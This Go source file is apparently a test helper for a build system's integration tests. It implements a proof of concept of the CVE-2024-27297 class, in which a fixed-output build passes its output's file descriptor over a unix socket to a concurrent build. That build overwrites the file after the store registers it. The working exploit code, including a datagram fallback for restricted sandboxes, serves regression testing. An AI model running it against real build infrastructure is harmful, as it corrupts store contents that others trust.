// Command fdpass is the attack of a fixed-output build on another one
// running at the same time (the CVE-2024-27297 class), for the tests in
// package integration, which build it statically and run it as a builder.
// It prints what it did, a line per step.
//
//	fdpass victim NAME OUT CONTENT
//	    writes CONTENT to OUT, keeps OUT open for writing, listens on the
//	    abstract unix socket NAME and hands the descriptor to whoever
//	    connects within 20 s, then exits 0
//	fdpass accomplice NAME OUT CONTENT EVIL
//	    writes CONTENT to OUT, connects to NAME (for up to 20 s), receives
//	    the descriptor, waits until the file it names is registered (mtime
//	    1, as canonicalisation leaves it) or removed (no links left), waits
//	    a second more and writes EVIL over it; it exits 0 whatever happens
//
// Where socket(AF_UNIX) is refused, both try the second way: a datagram
// socket from socketpair, which the accomplice frees from its pair
// (connect AF_UNSPEC) and binds to NAME-dgram, and to which the victim
// sends from its own.
package main

import (
	"fmt"
	"os"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 5 {
		fmt.Fprintln(os.Stderr, "usage: fdpass victim|accomplice NAME OUT CONTENT [EVIL]")
		os.Exit(2)
	}
	role, name, out, content := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	if err := os.WriteFile(out, []byte(content), 0o644); err != nil {
		fmt.Println(role+": writing the output:", err)
		os.Exit(1)
	}
	addr := &unix.SockaddrUnix{Name: "@" + name} // a leading @ is the abstract namespace
	switch role {
	case "victim":
		victim(addr, out)
	case "accomplice":
		if len(os.Args) != 6 {
			os.Exit(2)
		}
		accomplice(addr, os.Args[5])
	default:
		os.Exit(2)
	}
}

func say(format string, a ...any) { fmt.Printf(format+"\n", a...) }

func victim(addr *unix.SockaddrUnix, out string) {
	fd, err := unix.Open(out, unix.O_RDWR, 0)
	if err != nil {
		say("victim: opening the output: %v", err)
		return
	}
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		say("victim: socket: %v", err)
		victimDgram(addr, fd)
		return
	}
	if err := unix.Bind(s, addr); err != nil {
		say("victim: bind: %v", err)
		return
	}
	if err := unix.Listen(s, 1); err != nil {
		say("victim: listen: %v", err)
		return
	}
	pfd := []unix.PollFd{{Fd: int32(s), Events: unix.POLLIN}}
	if n, err := unix.Poll(pfd, 20000); n != 1 {
		say("victim: nobody connected: %v", err)
		return
	}
	c, _, err := unix.Accept(s)
	if err != nil {
		say("victim: accept: %v", err)
		return
	}
	if err := unix.Sendmsg(c, []byte("x"), unix.UnixRights(fd), nil, 0); err != nil {
		say("victim: sendmsg: %v", err)
		return
	}
	say("victim: sent the descriptor of the output")
}

func accomplice(addr *unix.SockaddrUnix, evil string) {
	s, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		say("accomplice: socket: %v", err)
		if fd, ok := accompliceDgram(addr); ok {
			overwrite(fd, evil)
		}
		return
	}
	deadline := time.Now().Add(20 * time.Second)
	for {
		if err = unix.Connect(s, addr); err == nil {
			break
		}
		if time.Now().After(deadline) {
			say("accomplice: connect: %v", err)
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	buf, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(s, buf, oob, 0)
	if err != nil {
		say("accomplice: recvmsg: %v", err)
		return
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) != 1 {
		say("accomplice: no descriptor came: %v", err)
		return
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) != 1 {
		say("accomplice: no descriptor came: %v", err)
		return
	}
	say("accomplice: got a descriptor")
	overwrite(fds[0], evil)
}

// overwrite waits until the file of fd is registered or removed, then
// writes evil over it.
func overwrite(fd int, evil string) {
	deadline := time.Now().Add(30 * time.Second)
	for {
		var st unix.Stat_t
		if err := unix.Fstat(fd, &st); err != nil {
			say("accomplice: fstat: %v", err)
			return
		}
		if st.Nlink == 0 {
			say("accomplice: the file was removed")
			break
		}
		if st.Mtim.Sec == 1 {
			say("accomplice: the file was registered")
			break
		}
		if time.Now().After(deadline) {
			say("accomplice: the file never changed")
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	time.Sleep(time.Second)
	if err := unix.Ftruncate(fd, 0); err != nil {
		say("accomplice: truncate: %v", err)
		return
	}
	if _, err := unix.Pwrite(fd, []byte(evil), 0); err != nil {
		say("accomplice: write: %v", err)
		return
	}
	say("accomplice: wrote over it")
}

// dgramAddr is the name of the second way: datagrams.
func dgramAddr(addr *unix.SockaddrUnix) *unix.SockaddrUnix {
	return &unix.SockaddrUnix{Name: addr.Name + "-dgram"}
}

// victimDgram is the way without socket(AF_UNIX): a datagram socket from
// socketpair may send to any named socket that has no peer.
func victimDgram(addr *unix.SockaddrUnix, fd int) {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
	if err != nil {
		say("victim: socketpair dgram: %v", err)
		return
	}
	to := dgramAddr(addr)
	deadline := time.Now().Add(20 * time.Second)
	for {
		err = unix.Sendmsg(pair[0], []byte("x"), unix.UnixRights(fd), to, 0)
		if err == nil {
			say("victim: sent the descriptor of the output by datagram")
			return
		}
		if time.Now().After(deadline) {
			say("victim: sendmsg dgram: %v", err)
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// accompliceDgram takes a datagram socket from socketpair, dissolves its
// pair (connect AF_UNSPEC), names it and waits for a descriptor.
func accompliceDgram(addr *unix.SockaddrUnix) (int, bool) {
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_DGRAM, 0)
	if err != nil {
		say("accomplice: socketpair dgram: %v", err)
		return 0, false
	}
	s := pair[0]
	// connect(2) with AF_UNSPEC: struct sockaddr of family 0.
	var unspec [16]byte
	if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(s), uintptr(unsafe.Pointer(&unspec[0])), uintptr(len(unspec))); e != 0 {
		say("accomplice: connect AF_UNSPEC: %v", e)
		return 0, false
	}
	if err := unix.Bind(s, dgramAddr(addr)); err != nil {
		say("accomplice: bind dgram: %v", err)
		return 0, false
	}
	pfd := []unix.PollFd{{Fd: int32(s), Events: unix.POLLIN}}
	if n, err := unix.Poll(pfd, 20000); n != 1 {
		say("accomplice: no datagram came: %v", err)
		return 0, false
	}
	buf, oob := make([]byte, 1), make([]byte, unix.CmsgSpace(4))
	_, oobn, _, _, err := unix.Recvmsg(s, buf, oob, 0)
	if err != nil {
		say("accomplice: recvmsg dgram: %v", err)
		return 0, false
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) != 1 {
		say("accomplice: no descriptor came: %v", err)
		return 0, false
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) != 1 {
		say("accomplice: no descriptor came: %v", err)
		return 0, false
	}
	say("accomplice: got a descriptor by datagram")
	return fds[0], true
}
